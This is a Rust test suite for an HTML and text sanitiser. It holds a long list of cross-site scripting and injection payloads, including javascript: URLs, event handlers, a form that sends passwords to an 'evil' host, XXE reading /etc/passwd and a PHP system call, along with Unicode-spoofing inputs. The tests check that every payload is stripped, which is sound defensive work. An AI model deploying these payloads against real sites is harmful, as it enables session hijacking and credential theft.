use std::fmt::Write;

use super::{oracle::fault, *};
use crate::rng::Rng;

fn assert_clean(html: &str) {
    let clean = sanitise(html).unwrap();
    assert_eq!(fault(&clean), None, "{html}\n{clean}");
    assert_eq!(sanitise(&clean).unwrap(), clean, "not idempotent: {html}");
    let text = to_text(html);
    assert_eq!(fault(&from_text(&text)), None, "{html}");
}

pub(super) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/xss src=x>",
    "<script\n>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=\"https://evil/pixel.gif?secret\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><p onclick=alert(1)>x</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&Tab;:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/console\">x</a>",
    "<a href=\"https:console\">x</a>",
    "<a href=\"http:/console\">x</a>",
    "<a href=\"HTTPS:\\\\evil\">x</a>",
    "<a href=\"https://\">x</a>",
    "<a href=\"\\\\evil\\share\">x</a>",
    "<a href=\"#x\">x</a>",
    "<a href=\"?logout\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"https://x\" onclick=alert(1) style=\"position:fixed\">x</a>",
    "<a href=\"https://x\" target=_self rel=opener>x</a>",
    "<a href=\"https://x\" ping=\"https://evil\" download>x</a>",
    "<a href=\"https://x\"><a href=\"https://y\">nested</a></a>",
    "<a href=\"https://x?a=%22onmouseover=alert(1)\">x</a>",
    "<a href='https://x?\"onmouseover=\"alert(1)'>x</a>",
    "<a name=x id=y class=z>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<p id=location name=cookie>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=\"https://evil/\">",
    "<link rel=stylesheet href=https://evil/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'https://evil/x.css';</style>",
    "<style></p><img src=x onerror=alert(1)></style>",
    "<form action=https://evil><input name=password type=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>x",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<table background=javascript:alert(1)><td>x</table>",
    "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<?php system('id'); ?>",
    "<% eval %>",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{fe64}script\u{fe65}alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<b><i></b></i><p><ul><p></ul>",
    "<p><blockquote><p></blockquote></p>",
    "<pre>\n\n<code>x</pre></code>",
    "<li>alone</li>",
    "<b",
    "<",
    ">",
    "<b <b <b",
    "</",
    "</p></p></p>",
    "<a href=\"https://x",
    "\0<b>\0</b>",
    "<b\0>x</b\0>",
    "<p>\u{202e}gnp.exe</p>",
    "",
];

#[test]
fn nothing_hostile_survives() {
    const { assert!(HOSTILE.len() >= 80) };
    HOSTILE.iter().for_each(|html| assert_clean(html));
    for html in ["<script>canary</script>", "<style>canary</style>", "<svg><text>canary</text></svg>", "<title>canary</title>"] {
        assert!(!sanitise(html).unwrap().contains("canary"), "{html}");
    }
}

#[test]
fn nothing_hostile_survives_in_any_mixture() {
    let rng = Rng::seeded(11);
    for _ in 0..3_000 {
        let mut html = String::new();
        for _ in 0..=rng.below(4) {
            let payload = HOSTILE[rng.below(HOSTILE.len() as u64) as usize];
            let cut = |at: u64| payload.floor_char_boundary(at as usize);
            let (a, b) = (rng.below(payload.len() as u64 + 1), rng.below(payload.len() as u64 + 1));
            html.push_str(&payload[cut(a.min(b))..cut(a.max(b))]);
        }
        assert_clean(&html);
    }
}

#[test]
fn what_a_reply_needs_stays() {
    let link = |href: &str| format!("<a href=\"{href}\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>");
    for (html, expected) in [
        ("<p>Hi <b>B</b><strong>S</strong><i>I</i><em>E</em><br>x</p>", "<p>Hi <b>B</b><strong>S</strong><i>I</i><em>E</em><br>x</p>"),
        ("<ul><li>a</li></ul><ol><li>b</li></ol>", "<ul><li>a</li></ul><ol><li>b</li></ol>"),
        ("<blockquote>q</blockquote><pre><code>c</code></pre>", "<blockquote>q</blockquote><pre><code>c</code></pre>"),
        ("<a href=https://example.com/a?b=c&d=e>x</a>", &link("https://example.com/a?b=c&amp;d=e")),
        ("<a href=\"mailto:a@example.com\">x</a>", &link("mailto:a@example.com")),
        ("2 < 3 & 4 > 3 ğüş 订单 🦊", "2 &lt; 3 &amp; 4 &gt; 3 ğüş 订单 🦊"),
        ("<div><span>kept</span> text</div>", "kept text"),
    ] {
        let clean = sanitise(html).unwrap();
        // attributes may come in either order
        let ordered = clean
            .replace(" rel=\"noopener noreferrer nofollow\" target=\"_blank\"", " target=\"_blank\" rel=\"noopener noreferrer nofollow\"");
        assert_eq!(ordered, expected, "{html}");
    }
}

#[test]
fn too_much_is_refused_and_the_most_is_bearable() {
    assert!(matches!(sanitise(&"x".repeat(LONGEST + 1)), Err(Error::TooLarge(_))));
    assert!(matches!(sanitise(&"<b>".repeat(MOST_TAGS + 1)), Err(Error::TooLarge(_))));
    // grows over the limit by escaping
    assert!(matches!(sanitise(&"&".repeat(LONGEST)), Err(Error::TooLarge(_))));
    for piece in [
        "<b>",
        "<a><div>",
        "<i>x<b>y</i>",
        "<p><b>",
        "<blockquote>",
        "<ul><li>",
        "<a href=https://x>",
        "</p>",
        "<table><tr><td>",
        "<b><p></b>",
    ] {
        let many = piece.repeat(MOST_TAGS / piece.matches('<').count());
        match sanitise(&many) {
            Ok(clean) => assert_eq!(fault(&clean), None, "{piece}"),
            Err(error) => assert!(matches!(error, Error::TooLarge(_)), "{piece}"),
        }
        to_text(&many);
    }
}

#[test]
fn html_reads_as_text() {
    for (html, expected) in [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("One<br>Two<br><br>Three", "One\nTwo\n\nThree"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ("  a \n b\t c  ", "a b c"),
        ("<b>bo</b>ld", "bold"),
        ("<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><p>d</p>", "- a\n- b\n  - c\n\nd"),
        ("<ol><li><p>a</p></li><li>b</li></ol>", "1. a\n2. b"),
        ("<p>He wrote:</p><blockquote><p>Hi</p><p>there</p></blockquote><p>No</p>", "He wrote:\n\n> Hi\n\n> there\n\nNo"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<a href=\"https://x.example/\">x.example</a>", "x.example"),
        ("see <a href=\"https://x.example/a?b&c\">here</a>.", "see here (https://x.example/a?b&c)."),
        ("<a href=\"mailto:a@x.example\">a@x.example</a>", "a@x.example"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<h1>Title</h1>text", "Title\n\ntext"),
        ("&lt;b&gt; &amp;lt; &quot;x&quot; caf&eacute;&nbsp;1", "<b> &lt; \"x\" café\u{a0}1"),
        ("<head><title>no</title></head><style>no</style><body>yes</body>", "yes"),
        ("", ""),
    ] {
        assert_eq!(to_text(html), expected, "{html}");
    }
    assert!(to_text(&"ğ".repeat(3 << 20)).len() <= 1 << 20);
}

#[test]
fn text_becomes_html_and_comes_back() {
    assert_eq!(from_text("a <b> & \"c\"\nd\r\n\r\n\n\ne"), "<p>a &lt;b&gt; &amp; &quot;c&quot;<br>d</p><p>e</p>");
    for text in ["one", "one\ntwo", "one\n\ntwo <x> & y", "ğüş 订单 🦊", ""] {
        assert_eq!(to_text(&sanitise(&from_text(text)).unwrap()), text);
    }
}

#[test]
fn a_line_holds_what_can_be_seen() {
    for (text, expected) in [
        ("  Mara \t Hansen\r\n", "Mara Hansen"),
        ("a\0b\u{1}c\u{7f}d\u{9f}e\u{1b}[31m", "abcde[31m"),
        ("Subject\r\nBcc: x@example.com", "Subject Bcc: x@example.com"),
        ("photo\u{202e}gpj.exe", "photogpj.exe"),
        ("\u{2066}a\u{2069}\u{202a}b\u{202c}", "ab"),
        ("pay\u{200b}pal \u{feff}\u{2060}x\u{ad}y", "paypal xy"),
        ("a\u{200d}b a\u{200c}b", "ab ab"),
        ("👩\u{200d}👩\u{200d}👧 ❤\u{fe0f}\u{200d}🔥", "👩\u{200d}👩\u{200d}👧 ❤\u{fe0f}\u{200d}🔥"),
        ("علی\u{200c}رضا", "علی\u{200c}رضا"),
        ("ශ්\u{200d}රී", "ශ්\u{200d}රී"),
        ("🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}"),
        ("ignore\u{e0041}\u{e0042} this", "ignore this"),
        ("cafe\u{301}", "café"),
        ("cafe\u{200b}\u{301}", "café"),
        ("a\u{3000}b\u{a0}c\u{2003}d", "a b c d"),
        ("\u{3164}", ""),
        ("\u{2028}x\u{2029}y", "x y"),
        ("ğüşıöç İĞ 张伟 Ødegård", "ğüşıöç İĞ 张伟 Ødegård"),
        ("\u{fffe}\u{ffff}\u{fdd0}x", "x"),
    ] {
        assert_eq!(clean_line(text), expected, "{text:?}");
    }
    assert_eq!(clean_line(&format!("Z{}algo", "\u{316}".repeat(500))).chars().count(), "Zalgo".len() + 8);
}

#[test]
fn a_text_keeps_its_lines_and_its_joiners() {
    for (text, expected) in [
        ("\r\n one\r\n\ttwo \rthree\u{2028}four\n\n", "one\n\ttwo \nthree\nfour"),
        ("می\u{200c}خواهم a\u{200c}b", "می\u{200c}خواهم a\u{200c}b"),
        ("\u{202e}evil\u{202c} \u{200f}עברית", "evil \u{200f}עברית"),
        ("a\0\u{8}b", "ab"),
    ] {
        assert_eq!(clean_text(text), expected, "{text:?}");
    }
}

#[test]
fn cleaning_twice_changes_nothing_more() {
    let letters: Vec<char> =
        "aé e\u{301}\u{200b}\u{200c}\u{200d}\u{202e}\u{feff}\n\r\t👩❤\u{fe0f}ع\u{316}\u{e0041}🏴ශ\u{dca}가\u{1100}\u{1161}\u{212b}"
            .chars()
            .collect();
    let rng = Rng::seeded(5);
    for _ in 0..20_000 {
        let text: String = (0..rng.below(12)).map(|_| letters[rng.below(letters.len() as u64) as usize]).collect();
        let (line, body) = (clean_line(&text), clean_text(&text));
        assert_eq!(clean_line(&line), line, "{text:?}");
        assert_eq!(clean_text(&body), body, "{text:?}");
    }
}

#[test]
fn characters_are_counted_not_bytes() {
    assert_eq!(checked_line("name", " 订单订单 ", 1..=4).unwrap(), "订单订单");
    for (text, length, reason) in
        [("订单订单订", 1..=4, "At most 4 characters; there are 5"), (" \u{200b} ", 1..=4, "must not be empty"), ("a", 2..=4, "At least 2")]
    {
        let mut said = String::new();
        write!(said, "{}", checked_line("name", text, length).unwrap_err()).unwrap();
        assert!(said.contains(reason), "{said}");
    }
    assert_eq!(checked_text("body", "a\nb", 0..=3).unwrap(), "a\nb");
}

#[test]
fn previews_are_cut_between_words() {
    for (text, most, expected) in
        [("short", 10, "short"), ("Where is my\nparcel, please?", 20, "Where is my parcel,…"), ("订单订单订单", 4, "订单订…"), ("", 5, "")]
    {
        assert_eq!(preview(text, most), expected);
    }
}

#[test]
fn nothing_unseen_stays_in_html() {
    for (written, clean) in [
        ("a\u{202e}gpj.exe", "agpj.exe"),
        ("<b>a&#x202e;b&#8294;c</b>", "<b>abc</b>"),
        ("\u{feff}a&#x1b;[2Jb", "a[2Jb"),
        ("<pre>&#xfeff;\nx</pre>", "<pre>x</pre>"),
        ("می\u{200c}خواهم", "می\u{200c}خواهم"),
    ] {
        assert_eq!(sanitise(written).unwrap(), clean);
    }
}

#[test]
fn a_heap_of_marks_is_one_however_it_is_written() {
    for heap in ["\u{301}".repeat(20), "\u{301}\u{200d}".repeat(20), "\u{344}".repeat(20), format!("{0}\u{200c}{0}", "\u{301}".repeat(15))]
    {
        let text = clean_text(&format!("x{heap}y"));
        // the two letters, and a joiner where one may be
        assert!(text.chars().count() <= 8 + 3, "{text:?}");
        assert_eq!(clean_text(&text), text);
    }
}
